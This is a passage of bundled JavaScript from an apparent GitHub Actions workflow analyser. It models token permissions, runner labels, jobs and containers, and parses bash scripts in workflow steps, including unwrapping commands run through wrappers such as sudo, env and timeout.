            descend(item.value, path, found, state);
}
function collectFromVector(node, rest, dropped, found, state) {
    if (node.kind !== "seq") {
        state.isOpen = true;
        return;
    }
    const own = [];
    for (const item of node.items)
        descend(item.value, rest, own, state);
    for (const value of own)
        if (!dropped.has(value.value))
            found.push(value);
}
function descend(node, path, found, state) {
    if (node.kind === "scalar") {
        if (expressionsIn(node).length > 0)
            state.isOpen = true;
        if (path.length === 0)
            found.push(node);
        return;
    }
    const [head, ...rest] = path;
    if (head === undefined) {
        // The whole structure is expanded as text: any scalar in it.
        for (const child of childrenOf(node))
            descend(child, path, found, state);
    }
    else if (node.kind === "map") {
        for (const entry of node.entries) {
            if (head === "*" || entry.key.value.toLowerCase() === head)
                descend(entry.value, rest, found, state);
        }
    }
    else if (head === "*") {
        for (const item of node.items)
            descend(item.value, rest, found, state);
    }
}
function childrenOf(node) {
    if (node.kind === "scalar")
        return [];
    return node.kind === "map" ? node.entries.map((entry) => entry.value) : node.items.map((item) => item.value);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/permissions.js
/**
 * The scopes of `GITHUB_TOKEN`.
 *
 * @see Workflow syntax for GitHub Actions, `permissions`
 */
const PERMISSION_SCOPES = [
    "actions",
    "artifact-metadata",
    "attestations",
    "checks",
    "code-quality",
    "contents",
    "deployments",
    "discussions",
    "id-token",
    "issues",
    "models",
    "packages",
    "pages",
    "pull-requests",
    "repository-projects",
    "security-events",
    "statuses",
];
/** A `permissions:` block. Once it is there, every scope that it doesn't name is `none`. */
class Permissions {
    entry;
    kind;
    grants;
    constructor(entry) {
        this.entry = entry;
        this.kind = kindOf(entry.value);
        this.grants = this.kind === "scopes" ? grantsOf(entry.value) : [];
    }
    level(scope) {
        if (this.kind === "write-all")
            return scope === "models" ? "read" : "write";
        // `read-all` gives no identity: `id-token` has no read level.
        if (this.kind === "read-all")
            return scope === "id-token" ? "none" : "read";
        return this.grants.findLast((grant) => grant.scope === scope)?.level ?? "none";
    }
    /** Scopes that may write, `id-token` among them. */
    get writes() {
        if (this.kind === "write-all")
            return PERMISSION_SCOPES.filter((scope) => this.level(scope) === "write");
        return this.grants.filter((grant) => grant.level === "write").map((grant) => grant.scope);
    }
}
function kindOf(node) {
    if (node.kind === "map")
        return "scopes";
    if (node.kind === "seq")
        return "unreadable";
    if (node.value === "read-all" || node.value === "write-all")
        return node.value;
    // `permissions:` with nothing behind it is an empty block to GitHub.
    return node.isNull ? "scopes" : "unreadable";
}
function grantsOf(node) {
    if (node.kind !== "map")
        return [];
    return node.entries.map((entry) => ({ scope: entry.key.value, level: levelOf(entry.value), entry }));
}
function levelOf(node) {
    const text = node.kind === "scalar" ? node.value : "";
    return text === "read" || text === "write" ? text : "none";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/runner.js


/** `runs-on` of a job: labels, a group with labels, or expressions that matrix values fill. */
class Runner {
    entry;
    matrix;
    #labels;
    constructor(entry, matrix) {
        this.entry = entry;
        this.matrix = matrix;
    }
    /** The runner group that it asks for. */
    get group() {
        return this.entry.value.kind === "map" ? this.entry.value.scalar("group") : undefined;
    }
    get labels() {
        return this.resolve().known;
    }
    /** The labels that it may come to in the runs that `knownIn` knows of. */
    labelsWhere(knownIn) {
        return resolveLabels(this.entry.value, this.matrix, knownIn).known;
    }
    /** Part of it can't be known from the file. */
    get isOpen() {
        return this.resolve().isOpen;
    }
    /** The operating systems that its labels may mean; empty when none can be told. */
    get systems() {
        const systems = new Set();
        for (const label of this.labels) {
            const system = systemOf(label.text);
            if (system)
                systems.add(system);
        }
        return [...systems];
    }
    resolve() {
        this.#labels ??= resolveLabels(this.entry.value, this.matrix, () => [expressions/* NOTHING_KNOWN */.GN]);
        return this.#labels;
    }
}
function resolveLabels(node, matrix, knownIn) {
    const known = [];
    let isOpen = false;
    for (const scalar of labelScalars(node)) {
        if (expressionsIn(scalar).length === 0) {
            known.push({ text: scalar.value, node: scalar, fromMatrix: false });
            continue;
        }
        const resolved = labelsOfExpression(scalar, matrix, knownIn);
        isOpen ||= resolved.isOpen;
        known.push(...resolved.known);
    }
    return { known, isOpen };
}
/** Each value that an expression may come to as a whole: its own words, and those of the matrix. */
function labelsOfExpression(scalar, matrix, knownIn) {
    const whole = wholeExpression(scalar)?.expression;
    if (!whole)
        return { known: [], isOpen: true };
    const parts = knownIn(whole).flatMap((run) => (0,expressions/* resultLeaves */.uo)(whole, run).map((leaf) => labelsOfLeaf(leaf, run, scalar, matrix)));
    return { known: parts.flatMap(({ known }) => known), isOpen: parts.some(({ isOpen }) => isOpen) };
}
function labelsOfLeaf(leaf, run, scalar, matrix) {
    const result = (0,expressions/* evaluate */._3)(leaf, run);
    if (result.known) {
        const texts = [result.value].flat().filter((value) => typeof value === "string");
        return { known: texts.map((text) => ({ text, node: scalar, fromMatrix: false })), isOpen: false };
    }
    const path = (0,expressions/* contextPath */.VJ)(leaf);
    if (!matrix || path?.segments[0] !== "matrix")
        return { known: [], isOpen: true };
    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
    return { known: values.map((node) => ({ text: node.value, node, fromMatrix: true })), isOpen };
}
function labelScalars(node) {
    if (!node)
        return [];
    if (node.kind === "scalar")
        return node.isNull ? [] : [node];
    if (node.kind === "map")
        return labelScalars(node.get("labels"));
    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
}
/** Of GitHub's images and of the labels that self-hosted runners get by themselves. */
function systemOf(label) {
    const text = label.toLowerCase();
    if (text === "linux" || text.startsWith("ubuntu"))
        return "linux";
    if (text === "macos" || text.startsWith("macos-") || text.startsWith("mac"))
        return "macos";
    if (text === "windows" || text.startsWith("windows-") || text.startsWith("win"))
        return "windows";
    return undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/job.js








/** What both kinds of jobs have. */
class BaseJob {
    workflow;
    key;
    map;
    permissions;
    matrix;
    constructor(workflow, 
    /** The job's id. */
    key, map) {
        this.workflow = workflow;
        this.key = key;
        this.map = map;
        const permissions = map.entry("permissions");
        this.permissions = permissions ? new Permissions(permissions) : null;
        const matrix = map.map("strategy")?.entry("matrix");
        this.matrix = matrix ? new Matrix(matrix) : null;
    }
    get id() {
        return this.key.value;
    }
    get file() {
        return this.map.file;
    }
    get condition() {
        return this.map.scalar("if");
    }
    get needs() {
        return scalarsOf(this.map.get("needs"));
    }
    get outputs() {
        return this.map.map("outputs")?.entries ?? [];
    }
    /**
     * What the job's token may do.
     *
     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.permissions`: a job's block replaces the workflow's
     */
    get effectivePermissions() {
        if (this.permissions)
            return { from: "job", permissions: this.permissions };
        const { permissions } = this.workflow;
        return permissions ? { from: "workflow", permissions } : { from: "default", permissions: null };
    }
}
/** A job that runs steps. */
class NormalJob extends BaseJob {
    kind = "normal";
    env = envBlock("job", this.map);
    #steps;
    #runner;
    #containers;
    get steps() {
        this.#steps ??= stepsOf(this, this.map.get("steps"));
        return this.#steps;
    }
    get runner() {
        if (this.#runner === undefined) {
            const entry = this.map.entry("runs-on");
            this.#runner = entry ? new Runner(entry, this.matrix) : null;
        }
        return this.#runner;
    }
    /** The container that the steps run in, and the services beside it. */
    get containers() {
        this.#containers ??= containersOf(this);
        return this.#containers;
    }
    get environment() {
        return this.map.get("environment");
    }
    variable(name) {
        return this.env?.get(name) ?? this.workflow.env?.get(name);
    }
    get defaultShell() {
        const own = runDefault(this.map, "shell");
        if (own)
            return { value: (0,shell/* shellOf */.of)(own.value), from: "job", node: own };
        const shared = runDefault(this.workflow.root, "shell");
        if (shared)
            return { value: (0,shell/* shellOf */.of)(shared.value), from: "workflow", node: shared };
        return this.runnerShell();
    }
    /** Without a `shell:` anywhere: `pwsh` on Windows, `bash` elsewhere, `sh` in a container. */
    runnerShell() {
        if (this.map.entry("container"))
            return { value: "sh", from: "runner", node: null };
        const runner = this.runner;
        const systems = runner?.systems ?? [];
        if (systems.length === 1 && systems[0] === "windows")
            return { value: "pwsh", from: "runner", node: null };
        // Mixed matrices: the script has to be read by bash at least.
        if (systems.includes("windows"))
            return { value: "bash", from: "mixed", node: null };
        const isKnown = systems.length > 0 && runner?.isOpen === false;
        return { value: "bash", from: isKnown ? "runner" : "unknown", node: null };
    }
    get defaultWorkingDirectory() {
        const own = runDefault(this.map, "working-directory");
        if (own)
            return { value: own.value, from: "job", node: own };
        const shared = runDefault(this.workflow.root, "working-directory");
        if (shared)
            return { value: shared.value, from: "workflow", node: shared };
        return { value: ".", from: "default", node: null };
    }
}
/** A job that calls a reusable workflow. */
class ReusableJob extends BaseJob {
    kind = "reusable";
    uses;
    constructor(workflow, key, map, uses) {
        super(workflow, key, map);
        this.uses = new Uses(uses);
    }
    get with() {
        return this.map.map("with");
    }
    get secrets() {
        return this.map.entry("secrets");
    }
    get inheritsSecrets() {
        const node = this.secrets?.value;
        return node?.kind === "scalar" && node.value === "inherit";
    }
}
function runDefault(map, key) {
    const node = map.map("defaults")?.map("run")?.scalar(key);
    return node && !node.isNull ? node : undefined;
}
function containersOf(job) {
    const { map } = job;
    const container = map.entry("container");
    const services = map.map("services")?.entries ?? [];
    return [
        ...(container ? [containerUse(job, "container", "container", container)] : []),
        ...services.map((entry) => containerUse(job, "service", entry.key.value, entry)),
    ];
}
function containerUse(job, kind, name, entry) {
    const { value } = entry;
    if (value.kind !== "map") {
        const image = value.kind === "scalar" && !value.isNull ? value : null;
        return { job, kind, name, entry, image, env: null, credentials: undefined };
    }
    const image = value.scalar("image") ?? null;
    return { job, kind, name, entry, image, env: envBlock("container", value), credentials: value.map("credentials") };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/renovate.js
/**
 * Renovate's settings, from any of the places where it looks for them.
 *
 * @see Renovate documentation, "Configuration Location"
 */
class Renovate {
    document;
    root;
    kind = "renovate";
    constructor(document, root) {
        this.document = document;
        this.root = root;
    }
    get file() {
        return this.document.file;
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/workflow.js




/** A file of `.github/workflows`. */
class Workflow {
    document;
    root;
    kind = "workflow";
    permissions;
    env;
    #triggers;
    #jobs;
    #jobsById;
    constructor(document, root) {
        this.document = document;
        this.root = root;
        const permissions = root.entry("permissions");
        this.permissions = permissions ? new Permissions(permissions) : null;
        this.env = envBlock("workflow", root);
    }
    get file() {
        return this.document.file;
    }
    get path() {
        return this.file.path;
    }
    get name() {
        return this.root.text("name");
    }
    /** `on:` with its key; YAML 1.2 reads `on` as a string. */
    get on() {
        return this.root.entry("on");
    }
    get triggers() {
        this.#triggers ??= triggersOf(this.on?.value);
        return this.#triggers;
    }
    trigger(event) {
        return this.triggers.find((trigger) => trigger.event === event);
    }
    /** It runs only when another workflow calls it. */
    get isReusableOnly() {
        return this.triggers.length === 1 && this.triggers[0]?.event === "workflow_call";
    }
    get jobs() {
        this.#jobs ??= jobsOf(this);
        return this.#jobs;
    }
    /** By its id, in any case; of several that differ by case alone, the first. */
    job(id) {
        this.#jobsById ??= new Map(this.jobs.map((job) => [job.id.toLowerCase(), job]).reverse());
        return this.#jobsById.get(id.toLowerCase());
    }
}
function jobsOf(workflow) {
    const jobs = [];
    for (const { key, value } of workflow.root.map("jobs")?.entries ?? []) {
        if (value.kind === "map")
            jobs.push(jobOf(workflow, key, value));
    }
    return jobs;
}
function jobOf(workflow, key, map) {
    const uses = map.scalar("uses");
    return uses && !uses.isNull ? new ReusableJob(workflow, key, map, uses) : new NormalJob(workflow, key, map);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/index.js




















/***/ }),

/***/ 7436:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  l1: () => (/* reexport */ effectiveCommand),
  Uh: () => (/* reexport */ environmentFileWrites),
  bN: () => (/* reexport */ mayWriteEnvironmentFiles),
  tl: () => (/* reexport */ parseScript),
  ZJ: () => (/* reexport */ prepareShells),
  of: () => (/* reexport */ shellOf)
});

// UNUSED EXPORTS: ENVIRONMENT_FILES, expressionsOf, isConditional, mentions, partsOf, pwshAlias, quotingAt, substitutionsOf, variablesOf

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/parser.js
let parse;
/**
 * Loads the bash parser (about 15 ms), which is needed before bash and sh scripts are parsed and not just split. The
 * split knows less of structure only where a script is unusual, so who forgets this loses little.
 */
async function prepareShells() {
    parse ??= (await __webpack_require__.e(/* import() */ 989).then(__webpack_require__.bind(__webpack_require__, 8989))).parse;
}
/** Longer scripts aren't worth a parser's time, nor a person's. */
const MAX_LENGTH = 256 * 1024;
/** The parser's time grows with the square of the here-documents of a line. */
const MAX_HEREDOCS = 500;
/** The syntax tree, or `undefined` when the parser isn't loaded or has trouble with the script. */
function parseBash(masked) {
    if (!parse || masked.length > MAX_LENGTH || hasMoreThan(masked, "<<", MAX_HEREDOCS))
        return undefined;
    try {
        const script = parse(masked);
        return script.errors && script.errors.length > 0 ? undefined : script;
    }
    catch {
        // Deep nesting overflows its stack.
        return undefined;
    }
}
function hasMoreThan(text, part, limit) {
    let count = 0;
    for (let at = text.indexOf(part); at >= 0; at = text.indexOf(part, at + part.length)) {
        if (++count > limit)
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/effective-command.js
const none = new Set();
/** @see the manual pages of each: POSIX `env`, `nice`, `nohup`, `xargs`; sudo(8), timeout(1), bash(1) "SHELL BUILTIN COMMANDS" */
const WRAPPERS = new Map([
    [
        "sudo",
        {
            withValue: options("u user g group h host p prompt C close-from T command-timeout r role t type D chdir R chroot U other-user"),
            assigns: true,
        },
    ],
    ["doas", { withValue: options("u C") }],
    ["env", { withValue: options("u unset C chdir a argv0"), assigns: true }],
    ["time", { withValue: options("f format o output") }],
    ["command", { withValue: none, unless: new Set(["-v", "-V"]) }],
    ["builtin", { withValue: none }],
    ["exec", { withValue: options("a") }],
    ["timeout", { withValue: options("s signal k kill-after"), operands: 1 }],
    ["gtimeout", { withValue: options("s signal k kill-after"), operands: 1 }],
    ["nice", { withValue: options("n adjustment") }],
    ["ionice", { withValue: options("c class n classdata"), unless: new Set(["-p", "--pid"]) }],
    ["nohup", { withValue: none }],
    ["setsid", { withValue: none }],
    ["stdbuf", { withValue: options("i input o output e error") }],
    ["unbuffer", { withValue: none }],
    ["xvfb-run", { withValue: options("e error-file f auth-file n server-num p xauth-protocol s server-args w wait") }],
    ["xargs", { withValue: options("a arg-file d delimiter E I L max-lines n max-args P max-procs s max-chars") }],
]);
function options(names) {
    return new Set(names.split(" ").map((name) => (name.length === 1 ? `-${name}` : `--${name}`)));
}
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
/** Looks behind wrappers; a command without any is given back as it is. */
function effectiveCommand(command) {
    const words = command.name ? [command.name, ...command.args] : [];
    const wrappers = [];
    let at = 0;
    for (;;) {
        const program = baseName(words[at]?.literal);
        const next = program === undefined ? undefined : nextProgram(words, at, program);
        if (next === undefined || program === undefined)
            break;
        wrappers.push(program);
        at = next;
    }
    return at === 0
        ? { name: command.name, args: command.args, wrappers, command }
        : { name: words[at], args: words.slice(at + 1), wrappers, command };
}
/** Index of the program that the wrapper at `at` runs, `undefined` when it runs none. */
function nextProgram(words, at, program) {
    if (program === "eval")
        return evalProgram(words, at);
    const wrapper = WRAPPERS.get(program);
    if (!wrapper)
        return undefined;
    let operands = wrapper.operands ?? 0;
    for (let index = at + 1; index < words.length; index++) {
        const word = words[index];
        const text = word.literal ?? word.text;
        if (wrapper.unless?.has(text))
            return undefined;
        if (text === "--")
            return index + 1 + operands < words.length ? index + 1 + operands : undefined;
        if (text.startsWith("-") && text !== "") {
            if (wrapper.withValue.has(text))
                index++;
        }
        else if (wrapper.assigns && ASSIGNMENT.test(text)) {
            // Goes into the program's environment.
        }
        else if (operands > 0)
            operands--;
        else
            return index;
    }
    return undefined;
}
/** `eval curl x` runs its words; `eval "…"` is a text of its own, read as a nested script. */
function evalProgram(words, at) {
    const first = words[at + 1];
    return first && words.length > at + 2 && first.literal !== undefined && first.literal === first.text
        ? at + 1
        : undefined;
}
/** The last part of a program's path. */
function baseName(path) {
    return path === undefined ? undefined : path.slice(path.lastIndexOf("/") + 1);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/place.js
/** Of a command that hangs on nothing and stands in nothing. */
const TOP_PLACE = {
    conditions: [],
    inSubstitution: false,
    inFunction: undefined,
    group: undefined,
    nestedIn: undefined,
};
/** Tells the stages of a pipeline of each other; one alone is none. */
function linkStages(stages) {
    if (stages.length < 2)
        return;
    stages.forEach((stage, index) => {
        stage.pipeline = { index, stages };
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/embedded.js
/** Stands in the place of each code unit of a `${{ … }}`: no shell gives it a meaning, none takes it into a variable's name. */
const PLACEHOLDER = "\uE000";
/**
 * The `${{ … }}` of a script, fences included. A `}}` inside a `'…'` literal doesn't close; an expression without end
 * isn't one.
 */
function embeddedExpressions(text) {
    const found = [];
    let start = text.indexOf("${{");
    while (start >= 0) {
        const end = endOfExpression(text, start + 3);
        if (end < 0)
            break;
        found.push({ start, end });
        start = text.indexOf("${{", end);
    }
    return found;
}
function endOfExpression(text, from) {
    let quoted = false;
    for (let at = from; at < text.length; at++) {
        const code = text.charCodeAt(at);
        if (code === 39)
            quoted = !quoted;
        else if (!quoted && code === 125 && text.charCodeAt(at + 1) === 125)
            return at + 2;
    }
    return -1;
}
/** The script with every expression replaced by one opaque word of the same length, so that offsets stay. */
function maskExpressions(text, expressions) {
    if (expressions.length === 0)
        return text;
    const foreign = text.includes(PLACEHOLDER);
    let masked = "";
    let at = 0;
    for (const { start, end } of expressions) {
        masked += plain(text.slice(at, start), foreign) + PLACEHOLDER.repeat(end - start);
        at = end;
    }
    return masked + plain(text.slice(at), foreign);
}
/** The placeholder in a script's own text would pass for an expression; its neighbour means as little. */
function plain(text, foreign) {
    return foreign ? text.replaceAll(PLACEHOLDER, "\uE001") : text;
}
/** Index of the first expression that ends after `offset`; `expressions.length` when none does. */
function firstExpressionAfter(expressions, offset) {
    let low = 0;
    let high = expressions.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (expressions[middle].end <= offset)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}
/** Does any expression touch the range? */
function holdsExpression(expressions, start, end) {
    const first = expressions[firstExpressionAfter(expressions, start)];
    return first !== undefined && first.start < end;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/source.js

/** What is beyond isn't read. GitHub takes no workflow of that size; reading one shouldn't take seconds. */
const source_MAX_LENGTH = 512 * 1024;
function scriptSource(text, expressions = text.includes("${{") ? embeddedExpressions(text) : []) {
    const masked = maskExpressions(text, expressions);
    return { text, expressions, masked: masked.length > source_MAX_LENGTH ? masked.slice(0, source_MAX_LENGTH) : masked };
}
/** The expressions inside a range, as parts of a word. */
function expressionParts(source, start, end, quoted) {
    const parts = [];
    const { expressions } = source;
    for (let index = firstExpressionAfter(expressions, start); index < expressions.length; index++) {
        const expression = expressions[index];
        if (expression.start >= end)
            break;
        parts.push({ kind: "expression", index, start: expression.start, end: expression.end, quoted });
    }
    return parts;
}
/**
 * Static text of a word, cut at the expressions that it holds.
 *
 * @param value what the range means after quote removal, made from the masked text: each expression is still there in
 * its full length, so that the text around it can be told apart
 */
function literalParts(source, value, start, end, quoted) {
    const expressions = expressionParts(source, start, end, quoted);
    if (expressions.length === 0)
        return [{ kind: "literal", start, end, quoted, value }];
    const parts = [];
    let at = start;
    let valueAt = 0;
    for (const expression of expressions) {
        const placeholder = source.masked[expression.start];
        const found = value.indexOf(placeholder, valueAt);
        const literalEnd = found < 0 ? value.length : found;
        if (literalEnd > valueAt) {
            parts.push({
                kind: "literal",
                start: at,
                end: expression.start,
                quoted,
                value: value.slice(valueAt, literalEnd),
            });
        }
        parts.push(expression);
        at = expression.end;
        valueAt = literalEnd + (expression.end - expression.start);
    }
    if (valueAt < value.length)
        parts.push({ kind: "literal", start: at, end, quoted, value: value.slice(valueAt) });
    return parts;
}
/** Adds what `literalParts` gives; a spread would overflow the stack where there are very many. */
function appendLiteral(parts, source, value, start, end, quoted) {
    for (const part of literalParts(source, value, start, end, quoted))
        parts.push(part);
}
/** The value of a word made of these parts, `undefined` when it isn't static. */
function literalOf(parts) {
    let value = "";
    for (const part of parts) {
        if (part.kind === "literal")
            value += part.value;
        else if (part.kind === "glob" && part.pattern !== undefined)
            value += part.pattern;
        else
            return undefined;
    }
    return value;
}
/** What a script's regions say, in the words that parts use. */
function quotedAs(region) {
    switch (region?.quoting) {
        case "single":
        case "ansi-c":
        case "heredoc-quoted":
        case "here-string-single":
            return "single";
        case "double":
            return "double";
        case "heredoc":
        case "here-string-double":
            return "heredoc";
        default:
            return "none";
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/placement.js
const unmoved = (start, end) => ({ start, end });
/** The text was cut out of the outer one at `offset`. */
function cutAt(outer, offset) {
    return (start, end) => outer(start + offset, end + offset);
}
/** The text was made from what stands at `span` by more than cutting: everything is there. */
function madeFrom({ start, end }) {
    return () => ({ start, end });
}
/**
 * The text stood inside backticks or double quotes, and one level of backslashes was removed.
 *
 * @param raw the text between them
 * @param decoded what the parser made of it
 * @param offset of `raw` in the outer text
 */
function unescaped(outer, raw, decoded, offset) {
    const offsets = new Uint32Array(decoded.length + 1);
    let at = 0;
    for (let index = 0; index < decoded.length; index++) {
        if (raw[at] === "\\" && (raw[at] !== decoded[index] || raw[at + 1] === "\\"))
            at++;
        offsets[index] = Math.min(at, raw.length);
        at++;
    }
    offsets[decoded.length] = raw.length;
    const place = (index) => offset + offsets[Math.min(index, decoded.length)];
    // An end is the place after the last character: what follows may have a backslash before it.
    return (start, end) => outer(place(start), end > start ? place(end - 1) + 1 : place(start));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert-word.js


/** A word of unbash in our shape, converted when asked for. */
class BashWord {
    context;
    convert;
    start;
    end;
    #parts;
    #literal = null;
    constructor(context, range, convert) {
        this.context = context;
        this.convert = convert;
        const span = context.place(range.pos, range.end);
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.context.source.text.slice(this.start, this.end);
    }
    get parts() {
        this.#parts ??= this.convert(this.context);
        return this.#parts;
    }
    get literal() {
        if (this.#literal === null)
            this.#literal = literalOf(this.parts);
        return this.#literal;
    }
    toJSON() {
        return { start: this.start, end: this.end, text: this.text, literal: this.literal, parts: this.parts };
    }
}
function wordOf(node, context) {
    return made(node, context, () => wordParts(node, "none", context));
}
/** `NAME=value` as an argument, of `export` or `env`. */
function assignmentWord(node, context) {
    return made(node, context, () => {
        const values = node.value.type === "ArrayValue" ? node.value.elements : [node.value];
        const nameEnd = values[0]?.pos ?? node.end;
        const name = literal(context, context.text.slice(node.pos, nameEnd), node.pos, nameEnd, "none");
        return [...name, ...values.flatMap((value) => wordParts(value, "none", context))];
    });
}
function heredocWord(node, quoted, context) {
    return made(node, context, () => {
        const around = quoted ? "single" : "heredoc";
        if (!node.parts)
            return literal(context, node.text, node.pos, node.end, around);
        return node.parts.flatMap((part) => convertPart(part, around, context));
    });
}
/** A range of the text that is one static word. */
function plainWord(start, end, context, value = context.text.slice(start, end)) {
    return new BashWord(context, { pos: start, end }, () => literal(context, value, start, end, "none"));
}
function arithmeticWord(expression, range, context) {
    return made({ ...range, text: context.text.slice(range.pos, range.end) }, context, () => [
        {
            kind: "arithmetic",
            ...context.place(range.pos, range.end),
            quoted: "none",
            parts: arithmeticParts(expression, range, context),
        },
    ]);
}
/** Substitutions hold commands, which belong to the script's: those words are converted at once. */
const MAY_HOLD_COMMANDS = /[`(]|\$\{[\s|]/;
function made(node, context, convert) {
    const word = new BashWord(context, node, convert);
    if (MAY_HOLD_COMMANDS.test(node.text))
        void word.parts;
    return word;
}
function wordParts(node, quoted, context) {
    const { parts } = node;
    if (parts)
        return parts.flatMap((part) => convertPart(part, quoted, context));
    return node.end > node.pos ? literal(context, node.value, node.pos, node.end, quoted) : [];
}
function literal(context, value, start, end, quoted) {
    const span = context.place(start, end);
    return literalParts(context.source, value, span.start, span.end, quoted);
}
function convertPart(part, quoted, context) {
    const { source } = context;
    const span = context.place(part.pos, part.end);
    switch (part.type) {
        case "Literal":
            return literal(context, part.value, part.pos, part.end, quoted);
        case "SingleQuoted":
        case "AnsiCQuoted":
            return literal(context, part.value, part.pos, part.end, "single");
        case "DoubleQuoted":
        case "LocaleString":
            if (part.parts.length === 0)
                return [{ kind: "literal", ...span, quoted: "double", value: "" }];
            return part.parts.flatMap((child) => convertPart(child, quoted === "heredoc" ? quoted : "double", context));
        case "SimpleExpansion":
            return [{ kind: "variable", ...span, quoted, name: part.text.slice(1), operator: undefined, operand: [] }];
        case "ParameterExpansion":
            return [
                {
                    kind: "variable",
                    ...span,
                    quoted,
                    name: part.parameter,
                    operator: operatorOf(part),
                    operand: operandOf(part, quoted, context),
                },
            ];
        case "CommandExpansion":
        case "ProcessSubstitution":
            return [
                { kind: "substitution", ...span, quoted, commands: part.script ? substituted(part, part.script, context) : [] },
            ];
        case "ArithmeticExpansion":
            return [{ kind: "arithmetic", ...span, quoted, parts: arithmeticParts(part.expression, part, context) }];
        case "Glob":
        case "ExtendedGlob":
        case "BraceExpansion": {
            const inner = part.parts?.flatMap((child) => convertPart(child, quoted, context));
            const parts = inner ?? expressionParts(source, span.start, span.end, quoted);
            const isStatic = part.type !== "BraceExpansion" && parts.every((child) => child.kind === "literal" || child.kind === "glob");
            return [{ kind: "glob", ...span, quoted, pattern: isStatic ? part.text : undefined, parts }];
        }
    }
}
function substituted(part, script, context) {
    if (script.source === undefined)
        return context.substitution(script, context.text, context.place);
    // Backslashes were removed inside backticks: offsets of this script are offsets of another text.
    const raw = context.text.slice(part.pos + 1, part.end - 1);
    const place = unescaped(context.place, raw, script.source, part.pos + 1);
    return context.substitution(script, script.source, place);
}
function operatorOf(part) {
    if (part.prefix === "#")
        return "length";
    if (part.prefix === "!")
        return "indirect";
    return part.operation?.operator;
}
function operandOf(part, quoted, context) {
    const { index, operation } = part;
    const words = [index];
    if (operation) {
        if ("operand" in operation)
            words.push(operation.operand);
        else if ("pattern" in operation)
            words.push(operation.pattern, operation.replacement);
        else if ("offset" in operation)
            words.push(operation.offset, operation.length);
        else if (operation.type === "Unknown") {
            const span = context.place(part.pos, part.end);
            return expressionParts(context.source, span.start, span.end, quoted);
        }
    }
    return words.flatMap((word) => (word ? wordParts(word, quoted, context) : []));
}
const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
function arithmeticParts(expression, range, context) {
    const parts = [];
    if (expression)
        collectArithmetic(expression, parts, context);
    const whole = context.place(range.pos, range.end);
    // Expressions stand inside words, numbers or between operators: take them as they come.
    const expressions = expressionParts(context.source, whole.start, whole.end, "none");
    if (expressions.length === 0)
        return parts;
    const found = parts.filter((part) => part.kind !== "expression");
    // The parser stops at a word that it takes for no number; what follows is looked through for names.
    const seen = found.reduce((end, part) => Math.max(end, part.end), whole.start);
    return [...found, ...namesIn(context, seen, whole.end), ...expressions].sort((a, b) => a.start - b.start);
}
function namesIn({ source }, start, end) {
    const parts = [];
    for (const match of source.masked.slice(start, end).matchAll(/\$?\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
        const at = start + match.index;
        const span = { start: at, end: at + match[0].length };
        parts.push({
            kind: "variable",
            ...span,
            quoted: "none",
            name: match[1],
            operator: undefined,
            operand: [],
        });
    }
    return parts;
}
function collectArithmetic(node, into, context) {
    switch (node.type) {
        case "ArithmeticBinary":
            collectArithmetic(node.left, into, context);
            collectArithmetic(node.right, into, context);
            return;
        case "ArithmeticUnary":
            collectArithmetic(node.operand, into, context);
            return;
        case "ArithmeticTernary":
            collectArithmetic(node.test, into, context);
            collectArithmetic(node.consequent, into, context);
            collectArithmetic(node.alternate, into, context);
            return;
        case "ArithmeticGroup":
            collectArithmetic(node.expression, into, context);
            return;
        case "ArithmeticCommandExpansion": {
            const commands = node.script ? context.substitution(node.script, context.text, context.place) : [];
            into.push({ kind: "substitution", ...context.place(node.pos, node.end), quoted: "none", commands });
            return;
        }
        case "ArithmeticWord":
            if (node.parts)
                for (const part of node.parts.flatMap((child) => convertPart(child, "none", context)))
                    into.push(part);
            else if (NAME.test(node.value)) {
                const span = context.place(node.pos, node.end);
                into.push({ kind: "variable", ...span, quoted: "none", name: node.value, operator: undefined, operand: [] });
            }
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/convert.js

/** Adds the commands of a syntax tree to `collected`. */
function convertScript(tree, source, text, placement, place, collected) {
    const converter = new Converter(source, text, placement, collected);
    converter.list(tree.commands, place, []);
}
class Converter {
    source;
    text;
    place;
    collected;
    /** Where the words being converted stand; substitutions in them inherit it. */
    wordPlace;
    constructor(source, text, place, collected) {
        this.source = source;
        this.text = text;
        this.place = place;
        this.collected = collected;
    }
    list(statements, place, into) {
        for (const { command } of statements)
            this.node(command, place, into);
    }
    substitution(script, text, placement) {
        const outer = this.wordPlace;
        const inner = { ...outer, inSubstitution: true, group: undefined };
        const commands = [];
        const converter = new Converter(this.source, text, placement, this.collected);
        converter.list(script.commands, inner, commands);
        return commands;
    }
    node(node, place, into) {
        switch (node.type) {
            case "Command":
                return this.command(node, place, into);
            case "Pipeline":
                this.pipeline(node, place, into);
                return undefined;
            case "AndOr":
                this.andOr(node, place, into);
                return undefined;
            case "Function":
                return this.function(node, place, into);
            case "Coproc":
                if (node.body.type === "CompoundList")
                    this.list(node.body.commands, place, into);
                else
                    return this.node(node.body, place, into);
                return undefined;
            case "TestCommand":
                return this.testCommand(node, place, [], into);
